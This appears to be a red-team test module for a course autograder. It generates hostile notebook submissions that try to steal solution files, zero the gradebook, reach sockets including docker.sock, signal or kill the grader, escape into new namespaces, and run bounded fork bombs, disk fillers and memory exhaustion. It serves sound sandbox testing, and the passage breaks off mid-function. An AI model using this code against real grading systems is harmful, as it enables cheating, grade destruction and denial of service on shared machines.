"""Attacks on the grading boundary, as a hostile student hands them in: toy_bpe submissions whose
cells try to read the answers, write outside their work folder, reach the network, another
student's kernel or the grader, outlive the grading, or exhaust the machine (issue 10).

Every attack starts from the *blank* toy submission (the released notebook, nothing filled in),
so whatever points an attack earns are unearned: a blank notebook scores 0. Its code replaces
answer cells, tries each way in through plain Python and through libc (``ctypes``), and ends by
raising ``RuntimeError("ATTACK-REPORT name=outcome; ...")``: that message lands in the result's
``cells`` errors, so a test can say exactly which way in worked. An outcome that starts with
one of :data:`HOLE_WORDS` (``READ``, ``WROTE``, ``SENT``...) is a hole.

The attacks that could really hurt the machine if the boundary failed (signals to the grader,
``kill(-1)``, a fork bomb, a disk filler) check first, from inside the kernel, that the outcome
they are after is harmless: a signal attack fires only if a sentinel process outside the kernel
(started by the test) cannot be signalled; the fork bomb and the disk filler are bounded, and
the fork bomb starts only under a process limit. Otherwise they report and do nothing.

    >>> sorted({attack.kind for attack in attack_list(example_targets())})
    ['hijack', 'limit', 'network', 'process', 'signal', 'steal', 'write']
"""
from __future__ import annotations

import copy
import functools
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from bpe_labs.examples import load_cases, make_submission
from autograder.labs import nbgrader_meta

LAB = "toy_bpe"
ANSWER_CELLS = ("initialize_solution", "pair_frequencies_solution", "merge_solution",
                "learn_solution", "tokenize_solution")
STUDENT_FUNCTIONS = ("bpe_initialize", "get_pair_frequencies", "merge_pair_in_word", "learn_bpe",
                     "tokenize")
REPORT_TAG = "ATTACK-REPORT "
# Outcome words that mean "this way in worked".
HOLE_WORDS = ("READ", "WROTE", "SENT", "CONNECTED", "HIJACKED", "REACHABLE", "NO-LIMIT",
              "OVER-LIMIT", "RW-OPEN", "NEW-NAMESPACE")


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at; every path and number is made by the test before the batch."""

    repo: Path  # the grading checkout (its solutions/, autograder/)
    submissions: Path
    out: Path
    canary: Path  # a world-writable folder outside everything the kernel may write
    last_term: Path  # a copy of the course outside the checkout (a fake "last term" clone)
    site_packages: Path
    tcp_port: int
    udp_port: int
    unix_socket: Path  # a pathname Unix socket listener, world-connectable
    abstract_socket: str  # an abstract Unix socket listener's name (without the leading NUL)
    sentinel_pid: int  # a process outside the kernel: signals must not reach it
    grader_pid: int  # the grading process (the test's own)
    token: str  # unique marker (<= 15 characters) for every process and file an attack makes
    # the text of bpe_labs/reference/char_bpe.py, to rename over it unchanged but marked
    reference_copy: str

    @property
    def marker_line(self) -> str:
        return f"# red-team canary {self.token}\n"


@dataclass(frozen=True)
class Attack:
    attack_id: str
    kind: str  # steal | write | network | process | signal | limit | hijack
    description: str
    cells: Callable[[Targets], dict[str, str]]  # answer cell id -> its source
    # harms the machine or kills the grader if the boundary fails: needs Landlock
    dangerous: bool = False

    @property
    def file(self) -> str:
        return f"{self.attack_id}.ipynb"


# -- the student code: a prelude every attack cell starts with -----------------------------------
PRELUDE_TEMPLATE = '''\
import ctypes, errno, json, os, socket, struct, sys, time
_libc = ctypes.CDLL(None, use_errno=True)
# libc calls that make a process keep the GIL held (a PyDLL): through CDLL another thread of the
# kernel could take it during the call, and the child, where that thread does not exist, would wait
# for it for good.
_libc_holding_the_gil = ctypes.PyDLL(None, use_errno=True)
_fork = _libc_holding_the_gil.fork
_report = []


def _note(name, outcome):
    _report.append(f"{name}={outcome}")


def _why(error):
    code = getattr(error, "errno", None)
    return errno.errorcode.get(code, str(code)) if code else type(error).__name__


def _libc_error(what):
    code = ctypes.get_errno()
    raise OSError(code, f"{what}: {os.strerror(code)}")


def _libc_read(path, flags=0):
    fd = _libc.open(os.fsencode(str(path)), flags)
    if fd < 0:
        _libc_error("open")
    return _libc_read_fd(fd)


def _libc_read_fd(fd):
    buffer, chunks = ctypes.create_string_buffer(1 << 16), []
    while True:
        count = _libc.read(fd, buffer, len(buffer))
        if count <= 0:
            break
        chunks.append(buffer.raw[:count])
    _libc.close(fd)
    return b"".join(chunks)


def _libc_write(path, data, flags=os.O_WRONLY | os.O_CREAT | os.O_TRUNC):
    fd = _libc.open(os.fsencode(str(path)), flags, 0o666)
    if fd < 0:
        _libc_error("open")
    written = _libc.write(fd, data, len(data))
    _libc.close(fd)
    if written != len(data):
        _libc_error("write")


def _libc_call(name, *args):
    result = getattr(_libc, name)(*args)
    if result < 0:
        _libc_error(name)
    return result


def _c_strings(items):
    return (ctypes.c_char_p * (len(items) + 1))(*[os.fsencode(str(item)) for item in items], None)


def _libc_spawn(argv, env, stdout_fd=-1, new_session=False):
    """fork + execve through libc alone: the child runs no Python (no audit hook, no lock taken
    by another thread at the fork). Returns the child's pid."""
    path, args, envp = os.fsencode(argv[0]), _c_strings(argv), _c_strings([f"{k}={v}" for k, \
v in env.items()])
    pid = _fork()
    if pid == 0:
        if stdout_fd >= 0:
            _libc.dup2(stdout_fd, 1)
        if new_session:
            _libc.setsid()
        _libc.execve(path, args, envp)
        _libc._exit(127)
    if pid < 0:
        _libc_error("fork")
    return pid


def _snippet(data):
    """What a successful read shows: the text around the first solution marker, else the start."""
    at = data.find(b"BEGIN " + b"SOLUTION")
    start = max(at - 4, 0) if at >= 0 else 0
    return data[start:start + 48].decode("utf-8", "replace").replace(";", ",").replace("\\n", " ")


def _try(name, action):
    """Run one way in; note READ/WROTE/... with what it got, or the error that stopped it."""
    try:
        outcome = action()
    except BaseException as error:
        _note(name, _why(error))
        return None
    _note(name, outcome if isinstance(outcome, str) else "READ " + _snippet(outcome))
    return outcome


def _use_stolen(data):
    """Run the stolen solution notebook's answer cells here: the functions become this student's."""
    for cell in json.loads(data)["cells"]:
        grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")
        if cell["cell_type"] == "code" and grade_id.endswith("_solution"):
            exec("".join(cell["source"]), globals())


def _finish():
    """Raise the report. The grader keeps 500 characters of an error: what worked comes first,
    then as many refusals as fit."""
    holes = [entry for entry in _report if entry.split("=", 1)[1].startswith(__HOLE_WORDS__)]
    shown = holes + [entry for entry in _report if entry not in holes]
    while len("; ".join(shown)) > 420 and len(shown) > len(holes):
        shown.pop()
    if len(shown) < len(_report):
        shown.append(f"+{len(_report) - len(shown)} more=refused")
    raise RuntimeError("ATTACK-REPORT " + "; ".join(shown))

'''


PRELUDE = PRELUDE_TEMPLATE.replace("__HOLE_WORDS__", repr(HOLE_WORDS))


def cell(body: str) -> str:
    return PRELUDE + body + "\n_finish()\n"


def every_answer(body: str) -> dict[str, str]:
    """The same attack in every answer cell: a blank answer cell after it would otherwise define
    its function again (raising NotImplementedError) over the stolen one."""
    return {cell_id: cell(body) for cell_id in ANSWER_CELLS}


# -- read the answers ------------------------------------------------------------------------------
def steal_libc(t: Targets) -> dict[str, str]:
    solution = t.repo / "solutions" / f"{LAB}.ipynb"
    reference = t.repo / "bpe_labs" / "reference" / "char_bpe.py"
    return every_answer(f'''
_stolen = _try("libc-open", lambda: _libc_read({str(solution)!r}))
_stolen = _stolen or _try("libc-syscall-openat", lambda: _libc_read_fd(_libc_call("syscall", 257, \
-100, os.fsencode({str(solution)!r}), 0)))
_try("libc-open-reference", lambda: _libc_read({str(reference)!r}))
if _stolen:
    _use_stolen(_stolen)
''')


def steal_dir_fd(t: Targets) -> dict[str, str]:
    return every_answer(f'''
def _dir_fd():
    folder = os.open({str(t.repo.parent)!r}, os.O_RDONLY | os.O_DIRECTORY)
    return _libc_read_fd(os.open("{t.repo.name}/solutions/{LAB}.ipynb", os.O_RDONLY, dir_fd=folder))


def _path_fd():
    root = os.open({str(t.repo)!r}, os.O_PATH)
    return _libc_read_fd(os.open("solutions/{LAB}.ipynb", os.O_RDONLY, dir_fd=root))


def _reopen_o_path():
    folder = os.open({str(t.repo.parent)!r}, os.O_PATH)
    handle = os.open("{t.repo.name}/solutions/{LAB}.ipynb", os.O_PATH, dir_fd=folder)
    return _libc_read(f"/proc/self/fd/{{handle}}")


_stolen = _try("os.open-dir_fd", _dir_fd) or _try("os.open-O_PATH-root", \
_path_fd) or _try("reopen-O_PATH", _reopen_o_path)
if _stolen:
    _use_stolen(_stolen)
''')


def steal_links(t: Targets) -> dict[str, str]:
    solution = str(t.repo / "solutions" / f"{LAB}.ipynb")
    return every_answer(f'''
def _hard_link():
    os.link({solution!r}, "answers.ipynb")
    with open("answers.ipynb", "rb") as stolen:
        return stolen.read()


def _libc_hard_link():
    _libc_call("link", os.fsencode({solution!r}), b"answers2.ipynb")
    return _libc_read("answers2.ipynb")


def _symlink():
    os.symlink({solution!r}, "answers3.ipynb")
    with open("answers3.ipynb", "rb") as stolen:
        return stolen.read()


_stolen = _try("os.link", _hard_link) or _try("libc-link", _libc_hard_link) or _try("symlink", \
_symlink)
if _stolen:
    _use_stolen(_stolen)
''')


def steal_copy_plain(t: Targets) -> dict[str, str]:
    copy_path = str(t.last_term / "solutions" / f"{LAB}.ipynb")
    return every_answer(f'''
import glob

def _plain():
    with open({copy_path!r}, "rb") as stolen:
        return stolen.read()


def _by_glob():
    found = glob.glob({str(t.last_term.parent)!r} + "/**/solutions/{LAB}.ipynb", recursive=True)
    with open(found[0], "rb") as stolen:
        return stolen.read()


_stolen = _try("open-last-term", _plain) or _try("glob-last-term", _by_glob)
if _stolen:
    _use_stolen(_stolen)
''')


def steal_copy_libc(t: Targets) -> dict[str, str]:
    copy_path = str(t.last_term / "solutions" / f"{LAB}.ipynb")
    return every_answer(f'''
_stolen = _try("libc-open-last-term", lambda: _libc_read({copy_path!r}))
if _stolen:
    _use_stolen(_stolen)
''')


def steal_proc(t: Targets) -> dict[str, str]:
    """Through other processes' views of the filesystem: their cwd and root links in /proc."""
    relative = f"solutions/{LAB}.ipynb"
    return every_answer(f'''
def _through_proc():
    pids = [os.getppid(), {t.grader_pid}, 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]
    tried = 0
    for pid in pids:
        for path in (f"/proc/{{pid}}/cwd/{relative}", \
f"/proc/{{pid}}/root{str(t.repo)}/{relative}"):
            tried += 1
            try:
                return _libc_read(path)
            except OSError:
                pass
    raise FileNotFoundError(errno.ENOENT, f"none of {{tried}} paths")


_stolen = _try("proc-cwd-root", _through_proc)
if _stolen:
    _use_stolen(_stolen)
''')


def steal_inherited_fds(t: Targets) -> dict[str, str]:
    """File descriptors the kernel inherited from the grader: read files, walk up from folders."""
    return every_answer(f'''
import stat


def _inherited():
    seen = []
    for fd in range(3, 1024):
        try:
            mode = os.fstat(fd).st_mode
            target = os.readlink(f"/proc/self/fd/{{fd}}")
        except OSError:
            continue
        if stat.S_ISREG(mode) or stat.S_ISDIR(mode):
            seen.append(f"{{fd}}:{{target}}")
        if stat.S_ISREG(mode):
            try:
                data = os.pread(fd, 1 << 22, 0)
            except OSError:
                continue
            if b"BEGIN " + b"SOLUTION" in data:
                return data
        elif stat.S_ISDIR(mode):
            for relative in ("solutions/{LAB}.ipynb", "../solutions/{LAB}.ipynb", \
{str(t.repo / "solutions" / f"{LAB}.ipynb")!r}):
                try:
                    return _libc_read_fd(os.open(relative, os.O_RDONLY, dir_fd=fd))
                except OSError:
                    pass
    raise FileNotFoundError(errno.ENOENT, f"files and folders open: {{seen[:6]}}")


_stolen = _try("inherited-fds", _inherited)
if _stolen:
    _use_stolen(_stolen)
''')


# -- write outside the work folder ---------------------------------------------------------------
def _write_targets(t: Targets, how: str) -> dict[str, str]:
    """Files an attack tries to create (name -> path); each name is unique to ``how``."""
    name = f"canary-{how}-{t.token}"
    return {"submissions": str(t.submissions / f"{name}.txt"), "out": str(t.out / f"{name}.txt"),
            "repo": str(t.repo / f"{name}.txt"), "canary-dir": str(t.canary / f"{name}.txt"),
            "site-packages": str(t.site_packages / f"zz_{name}.pth"), "dev-shm": f"/dev/shm/{name}",
            "var-tmp": f"/var/tmp/{name}"}


def write_python(t: Targets) -> dict[str, str]:
    targets = _write_targets(t, "py")
    reference = str(t.repo / "bpe_labs" / "reference" / "char_bpe.py")
    launcher = str(t.repo / "autograder" / "kernel" / "sandbox_launcher.py")
    return {"initialize_solution": cell(f'''
def _create(path):
    def action():
        with open(path, "w") as handle:
            handle.write("# red-team canary: a comment line, harmless\\n")
        return "WROTE"
    return action


for _name, _path in {targets!r}.items():
    _try("create-" + _name, _create(_path))


def _rename_over():
    with open("char_bpe.py", "w") as handle:
        handle.write({t.reference_copy + t.marker_line!r})
    os.rename("char_bpe.py", {reference!r})
    return "WROTE"


def _append(path):
    def action():
        with open(path, "a") as handle:
            handle.write({t.marker_line!r})
        return "WROTE"
    return action


def _chmod(path):
    def action():
        os.chmod(path, 0o606)
        return "WROTE"
    return action


def _truncate(path):
    def action():
        os.truncate(path, 0)
        return "WROTE"
    return action


def _mkdir(path):
    def action():
        os.mkdir(path)
        return "WROTE"
    return action


def _rename(source, target):
    def action():
        os.rename(source, target)
        return "WROTE"
    return action


_try("rename-over-reference", _rename_over)
_try("append-launcher", _append({launcher!r}))
for _folder in ({str(t.submissions)!r}, {str(t.out)!r}, {str(t.canary)!r}):
    _try("chmod-" + os.path.basename(_folder), _chmod(_folder + "/victim-py.txt"))
    _try("truncate-" + os.path.basename(_folder), _truncate(_folder + "/victim-py.txt"))
    _try("mkdir-" + os.path.basename(_folder), _mkdir(_folder + "/evil-py-{t.token}"))
    _try("rename-" + os.path.basename(_folder), _rename(_folder + "/victim-py-2.txt", \
_folder + "/renamed-py-{t.token}.txt"))

# The grader's own files for this kernel: the launcher and connection file named on the command
# line. Opened for writing (nothing written): if that works, a restarted kernel could be swapped.
with open("/proc/self/cmdline", "rb") as handle:
    _argv = [part.decode() for part in handle.read().split(b"\\0") if part]
for _index, _part in enumerate(_argv):
    if _part.startswith("/") and os.path.isfile(_part) and not _part.startswith(sys.prefix) and \
not _part.startswith(sys.base_prefix):
        _try(f"open-rw-argv{{_index}}", lambda: (open(_part, "r+b").close(), "RW-OPEN")[1])
''')}


def write_inherited_fds(t: Targets) -> dict[str, str]:
    """One line into every regular file outside the work folder that the kernel inherited open."""
    return {"initialize_solution": cell(f'''
import stat

_found = 0
for _fd in range(3, 1024):
    try:
        _mode, _target = os.fstat(_fd).st_mode, os.readlink(f"/proc/self/fd/{{_fd}}")
    except OSError:
        continue
    if stat.S_ISREG(_mode) and not _target.startswith(os.getcwd()):
        _found += 1
        _try(f"inherited-fd-{{_fd}}", lambda: (os.write(_fd, {t.marker_line.encode()!r}), \
"WROTE " + _target)[1])
_note("files-open-outside", _found)
''')}


def write_libc(t: Targets) -> dict[str, str]:
    targets = _write_targets(t, "libc")
    reference = str(t.repo / "bpe_labs" / "reference" / "char_bpe.py")
    return {"initialize_solution": cell(f'''
def _create(path):
    def action():
        _libc_write(path, b"# red-team canary: a comment line, harmless\\n")
        return "WROTE"
    return action


for _name, _path in {targets!r}.items():
    _try("libc-create-" + _name, _create(_path))


def _rename_over():
    _libc_write("char_bpe.py", {(t.reference_copy + t.marker_line).encode()!r})
    _libc_call("rename", b"char_bpe.py", os.fsencode({reference!r}))
    return "WROTE"


def _libc_op(name, *args):
    def action():
        _libc_call(name, *args)
        return "WROTE"
    return action


_try("libc-rename-over-reference", _rename_over)
for _folder in ({str(t.submissions)!r}, {str(t.out)!r}, {str(t.canary)!r}):
    _base, _short = os.fsencode(_folder), os.path.basename(_folder)
    _try("libc-chmod-" + _short, _libc_op("chmod", _base + b"/victim-libc.txt", 0o606))
    _try("libc-truncate-" + _short, _libc_op("truncate", _base + b"/victim-libc.txt", \
ctypes.c_long(0)))
    _try("libc-mkdir-" + _short, _libc_op("mkdir", _base + b"/evil-libc-{t.token}", 0o777))
    _try("libc-rename-" + _short, _libc_op("rename", _base + b"/victim-libc-2.txt", \
_base + b"/renamed-libc-{t.token}.txt"))
    _try("libc-symlink-" + _short, _libc_op("symlink", b"/etc/passwd", \
_base + b"/link-libc-{t.token}"))
''')}


def write_gradebook(t: Targets) -> dict[str, str]:
    """Zero every grade already in the gradebook and every saved result (sqlite3, plain files)."""
    db = str(t.out / "gradebook.db")
    return {"initialize_solution": cell(f'''
import glob
import sqlite3


def _zero_gradebook():
    with sqlite3.connect({db!r}, timeout=2) as connection:
        count = connection.execute("UPDATE grade SET auto_score = 0, manual_score = 0").rowcount
    return f"WROTE {{count}} grades"


def _libc_open_rw():
    fd = _libc_call("open", os.fsencode({db!r}), os.O_RDWR)
    _libc.close(fd)
    return "RW-OPEN"


def _zero_results():
    changed = 0
    for path in glob.glob({str(t.out)!r} + "/results/*.json"):
        with open(path) as handle:
            result = json.load(handle)
        result["score"] = 0
        with open(path, "w") as handle:
            json.dump(result, handle)
        changed += 1
    if not changed:
        raise FileNotFoundError(errno.ENOENT, "no results seen")
    return f"WROTE {{changed}} results"


_try("sqlite-zero-grades", _zero_gradebook)
_try("libc-open-gradebook-rw", _libc_open_rw)
_try("zero-saved-results", _zero_results)
''')}


# -- the network ----------------------------------------------------------------------------------
# World-connectable sockets of system services on a usual Linux machine (only connected to, never
# written).
SYSTEM_SOCKETS = ("/run/dbus/system_bus_socket", "/var/run/dbus/system_bus_socket",
                  "/run/postgresql/.s.PGSQL.5432",
                  "/var/run/docker.sock", "/run/docker.sock", "/run/systemd/journal/stdout",
                  "/run/user/0/bus")


def network_python(t: Targets) -> dict[str, str]:
    return {"initialize_solution": cell(f'''
SYSTEM_SOCKETS = {SYSTEM_SOCKETS!r}
def _tcp():
    with socket.create_connection(("127.0.0.1", {t.tcp_port}), timeout=2) as connection:
        connection.sendall(b"red-team tcp python {t.token}")
    return "SENT"


def _udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"red-team udp python {t.token}", ("127.0.0.1", {t.udp_port}))
    return "SENT"


def _unix():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(2)
        connection.connect({str(t.unix_socket)!r})
        connection.sendall(b"red-team unix python {t.token}")
    return "SENT"


def _abstract():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(2)
        connection.connect("\\0{t.abstract_socket}")
        connection.sendall(b"red-team abstract python {t.token}")
    return "SENT"


def _connect_only(path):
    def action():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(2)
            connection.connect(path)
        return "CONNECTED"
    return action


_try("tcp", _tcp)
_try("udp", _udp)
_try("unix-path", _unix)
_try("unix-abstract", _abstract)
# The machine's own services, where they exist: connecting is already reaching them.
for _path in SYSTEM_SOCKETS:
    if os.path.exists(_path):
        _try("service " + _path, _connect_only(_path))
''')}


def network_libc(t: Targets) -> dict[str, str]:
    return {"initialize_solution": cell(f'''
def _address(port):
    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", \
port) + socket.inet_aton("127.0.0.1") + bytes(8)


def _tcp():
    fd = _libc_call("socket", socket.AF_INET, socket.SOCK_STREAM, 0)
    address = _address({t.tcp_port})
    _libc_call("connect", fd, address, len(address))
    message = b"red-team tcp libc {t.token}"
    _libc_call("send", fd, message, len(message), 0)
    _libc.close(fd)
    return "SENT"


def _udp():
    fd = _libc_call("syscall", 41, socket.AF_INET, socket.SOCK_DGRAM, 0)  # socket(2) by number
    address = _address({t.udp_port})
    message = b"red-team udp libc {t.token}"
    _libc_call("sendto", fd, message, len(message), 0, address, len(address))
    _libc.close(fd)
    return "SENT"


def _unix():
    fd = _libc_call("socket", socket.AF_UNIX, socket.SOCK_STREAM, 0)
    address = struct.pack("=H", socket.AF_UNIX) + os.fsencode({str(t.unix_socket)!r}) + b"\\0"
    _libc_call("connect", fd, address, len(address))
    message = b"red-team unix libc {t.token}"
    _libc_call("send", fd, message, len(message), 0)
    _libc.close(fd)
    return "SENT"


_try("libc-tcp", _tcp)
_try("libc-udp", _udp)
_try("libc-unix-path", _unix)
''')}


# -- processes that outlive the kernel ------------------------------------------------------------
DAEMON = ("import signal, time\nsignal.signal(signal.SIGHUP, signal.SIG_IGN)\nend = time.time() + "
          "45\nwhile time.time() < end:\n    time.sleep(0.5)\n")


def daemons(t: Targets) -> dict[str, str]:
    """Detached processes started four ways, each with the token in its argv and environment;
    the report says how many the kernel then sees running (they must not outlive it)."""
    return {"initialize_solution": cell(f'''
import _posixsubprocess

_ARGV = [sys.executable, "-c", {DAEMON!r}, "{t.token}"]
_ENV = {{"PATH": "/usr/bin:/bin", "RED_TEAM_TOKEN": "{t.token}"}}


def _double_fork():
    path, args, envp = os.fsencode(_ARGV[0]), _c_strings(_ARGV), _c_strings([f"{{k}}={{v}}" for k, \
v in _ENV.items()])
    pid = _fork()
    if pid < 0:
        _libc_error("fork")
    if pid == 0:
        _libc.setsid()
        if _fork() == 0:
            _libc.execve(path, args, envp)
        _libc._exit(0)
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline and os.waitpid(pid, os.WNOHANG) == (0, 0):
        time.sleep(0.05)
    return "started"


def _fork_exec():
    args = ([os.fsencode(a) for a in _ARGV], [os.fsencode(_ARGV[0])], True, (), None,
            [f"{{k}}={{v}}".encode() for k, v in _ENV.items()], -1, -1, -1, -1, -1, -1, *os.pipe())
    try:  # Python 3.11 and 3.12
        pid = _posixsubprocess.fork_exec(*args, True, True, -1, None, None, None, -1, None, False)
    except TypeError:  # Python 3.10
        pid = _posixsubprocess.fork_exec(*args, True, True, None, None, None, -1, None)
    return f"started {{pid}}"


def _forkpty():
    pid, fd = os.forkpty()
    if pid == 0:
        _libc.execve(os.fsencode(_ARGV[0]), _c_strings(_ARGV), _c_strings([f"{{k}}={{v}}" for k, \
v in _ENV.items()]))
        _libc._exit(127)
    return f"started {{pid}}"


def _system():
    command = f"RED_TEAM_TOKEN={t.token} setsid {{sys.executable}} -c 'import time; \
time.sleep(45)' {t.token} >/dev/null 2>&1 &"
    status = _libc.system(command.encode())
    if status != 0:
        raise OSError(errno.EPERM, f"system returned {{status}}")
    return "started"


for _name, _way in (("double-fork-setsid", _double_fork), ("fork_exec", _fork_exec), ("forkpty", \
_forkpty), ("libc-system", _system)):
    _try(_name, _way)
time.sleep(1)  # they start
_running = 0
for _pid in os.listdir("/proc"):
    try:
        _running += _pid.isdigit() and b"{t.token}" in _libc_read(f"/proc/{{_pid}}/cmdline")
    except OSError:
        pass
_note("running", _running)
''')}


def namespaces(t: Targets) -> dict[str, str]:
    """New namespaces of every kind through unshare, setns and the raw clone and clone3 system
    calls (a red-team run got user, PID and network namespaces through clone3 and clone)."""
    del t
    return {"initialize_solution": cell('''
_FLAGS = {"user": 0x10000000, "pid": 0x20000000, "net": 0x40000000, "mount": 0x00020000, \
"uts": 0x04000000,
          "ipc": 0x08000000, "cgroup": 0x02000000, "time": 0x80, "user+pid+net": 0x70000000}


def _child_of(pid, how):
    if pid == 0:
        os._exit(0)
    if pid < 0:
        _libc_error(how)
    os.waitpid(pid, 0)
    return "NEW-NAMESPACE made"


def _clone(flag):
    return _child_of(_libc_holding_the_gil.syscall(56, flag | 17, 0, 0, 0, 0), "clone")


def _clone3(flag):
    args = ctypes.create_string_buffer(struct.pack("=8Q", flag, 0, 0, 0, 17, 0, 0, 0), 64)
    return _child_of(_libc_holding_the_gil.syscall(435, args, 64), "clone3")


def _unshare(flag):
    _libc_call("unshare", flag)
    return "NEW-NAMESPACE made"


def _setns():
    _libc_call("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0)
    return "NEW-NAMESPACE joined"


for _name, _flag in _FLAGS.items():
    for _how, _way in (("clone", _clone), ("clone3", _clone3), ("unshare", _unshare)):
        _try(f"{_how}-{_name}", lambda: _way(_flag))
_try("setns", _setns)
''')}


# -- signals to the grader ------------------------------------------------------------------------
SENTINEL_CHECK = '''
def _sentinel_reachable(pid):
    """Can this kernel signal a process outside it? Signal 0 checks without doing anything."""
    if _libc.kill(pid, 0) == 0:
        return True
    try:
        signal.pidfd_send_signal(os.pidfd_open(pid), 0)
        return True
    except OSError:
        return False
'''


def signal_attack(body: str) -> Callable[[Targets], dict[str, str]]:
    """A signal attack that fires only when the sentinel is out of reach (else it says so)."""
    def cells(t: Targets) -> dict[str, str]:
        return {"initialize_solution": cell(f'''
import signal
{SENTINEL_CHECK}
if _sentinel_reachable({t.sentinel_pid}):
    _note("sentinel", "REACHABLE not-fired")
else:
    _note("sentinel", "out-of-reach")
    _GRADER, _PARENT = {t.grader_pid}, os.getppid()
{body}
    _note("fired", "survived")
''')}
    return cells


PIDFD_KILL = '''
    for _name, _pid in (("parent", _PARENT), ("grader", _GRADER)):
        _try("pidfd-kill-" + _name, lambda: (signal.pidfd_send_signal(os.pidfd_open(_pid), \
signal.SIGKILL), "sent")[1])
'''
LIBC_KILL = '''
    for _name, _pid in (("parent", _PARENT), ("grader", _GRADER)):
        _try("libc-kill-" + _name, lambda: (_libc_call("kill", _pid, signal.SIGKILL), "sent")[1])
'''
SIGSTOP = '''
    for _name, _pid in (("parent", _PARENT), ("grader", _GRADER)):
        _try("libc-stop-" + _name, lambda: (_libc_call("kill", _pid, signal.SIGSTOP), "sent")[1])
        _try("pidfd-stop-" + _name, lambda: (signal.pidfd_send_signal(os.pidfd_open(_pid), \
signal.SIGSTOP), "sent")[1])
'''
KILL_ALL = '''
    _try("libc-kill-minus-1", lambda: (_libc_call("kill", -1, signal.SIGKILL), "sent")[1])
    _try("kill-minus-1", lambda: (os.kill(-1, signal.SIGKILL), "sent")[1])
'''


# -- limits ---------------------------------------------------------------------------------------
FORK_BOMB = """\
import ctypes, errno, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
started, stopped_by = 0, "nothing"
while started < 2000:
    try:
        pid = os.fork()
    except OSError as error:
        stopped_by = errno.errorcode.get(error.errno, "?")
        break
    if pid == 0:
        libc.prctl(15, sys.argv[1].encode(), 0, 0, 0)  \
# PR_SET_NAME: the token, for the test to find
        time.sleep(2)
        os._exit(0)
    started += 1
print(started, stopped_by, flush=True)
time.sleep(2.5)
"""


def fork_bomb(t: Targets) -> dict[str, str]:
    """At most 2000 children, each named with the token, sleeping 2 s; forked by a small Python
    the kernel starts (forking the kernel itself takes seconds on a busy machine). Started only
    under a process limit (the machine is shared), else reported as NO-LIMIT."""
    return {"initialize_solution": cell(f'''
import resource
import select

_soft, _hard = resource.getrlimit(resource.RLIMIT_NPROC)
if os.geteuid() == 0 or _soft == resource.RLIM_INFINITY or _soft > 4096:
    _note("forks", f"NO-LIMIT not-started (uid {{os.geteuid()}}, nproc {{_soft}})")
else:
    _read, _write = os.pipe()
    _libc_spawn([sys.executable, "-S", "-c", {FORK_BOMB!r}, "{t.token}"], \
{{"PATH": "/usr/bin:/bin"}}, stdout_fd=_write)
    os.close(_write)
    _said, _begun, _ended = b"", time.monotonic(), False
    while time.monotonic() < _begun + 8 and not _said.endswith(b"\\n"):
        if select.select([_read], [], [], 0.2)[0]:
            _chunk = os.read(_read, 256)
            if not _chunk:
                _ended = True
                break
            _said += _chunk
    _started, _, _stopped_by = _said.decode().strip().partition(" ")
    if not _started:
        _note("forks", \
f"the forking process said nothing ({{'ended' if _ended else 'still silent'}} after \
{{time.monotonic() - _begun:.1f}} s)")
    elif int(_started) >= 2000:
        _note("forks", "NO-LIMIT 2000 started")
    else:
        _note("forks", f"{{_started}} stopped-by {{_stopped_by}}")
''')}


def disk_filler(t: Targets) -> dict[str, str]:
    """64 MiB files in its own folder until 2 GiB, an error, or 8 s."""
    return {"initialize_solution": cell('''
_chunk, _total, _index, _stopped_by = b"\\0" * (1 << 20), 0, 0, "time"
_deadline = time.monotonic() + 8
try:
    while _total < 2 << 30 and time.monotonic() < _deadline:
        with open(f"filler-{_index}.bin", "wb") as handle:
            for _ in range(64):
                handle.write(_chunk)
                _total += len(_chunk)
        _index += 1
except OSError as error:
    _stopped_by = _why(error)
_mib = _total >> 20
_note("filled", (f"{_mib}MiB stopped-by {_stopped_by}") if _stopped_by != "time" and _total < 2 << \
30 else f"NO-LIMIT {_mib}MiB")
''')}


HOLDER = """\
import os, select, sys, time
each, count = int(sys.argv[1]), int(sys.argv[2])
read, write = os.pipe()
children = []
for _ in range(count):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            block = b"\\1" * each  # every page written: really held
            os.write(write, f"{os.getpid()} ".encode())
            time.sleep(8)  # longer than this process waits
        finally:
            os._exit(0)
    children.append(pid)
holding, ended, deadline = set(), set(), time.monotonic() + 7
while len(holding | ended) < len(children) and time.monotonic() < deadline:
    if select.select([read], [], [], 0.1)[0]:
        holding.update(int(pid) for pid in os.read(read, 4096).split())
    while True:  # a child killed by a limit, before or after it held its memory
        try:
            pid, _ = os.waitpid(-1, os.WNOHANG)
        except ChildProcessError:
            break
        if not pid:
            break
        ended.add(pid)
time.sleep(0.5)  # a child killed just now is reaped before the count
while True:
    try:
        pid, _ = os.waitpid(-1, os.WNOHANG)
    except ChildProcessError:
        break
    if not pid:
        break
    ended.add(pid)
print(len(holding - ended), len(children), flush=True)
"""


def memory_in_children(t: Targets) -> dict[str, str]:
    """The memory limit is for the kernel, not for each of its processes: children that each stay
    under it hold 1.4 times the limit together (at most 16 children, at most 4 GiB in all). A small
    Python of its own forks them (the kernel's own address space is not in the way)."""
    return {"initialize_solution": cell(f'''
import resource
import select

_limit = resource.getrlimit(resource.RLIMIT_AS)[0]
_limit = 1536 << 20 if _limit == resource.RLIM_INFINITY else _limit
_each = max(256 << 20, int(_limit * 1.4) // 16)
_count = min(16, int(_limit * 1.4) // _each + 1, (4 << 30) // _each)
_read, _write = os.pipe()
_libc_spawn([sys.executable, "-S", "-c", {HOLDER!r}, str(_each), str(_count)], \
{{"PATH": "/usr/bin:/bin"}}, stdout_fd=_write)
os.close(_write)
_said, _deadline = b"", time.monotonic() + 9
while time.monotonic() < _deadline and not _said.endswith(b"\\n"):
    if select.select([_read], [], [], 0.2)[0]:
        _chunk = os.read(_read, 256)
        if not _chunk:
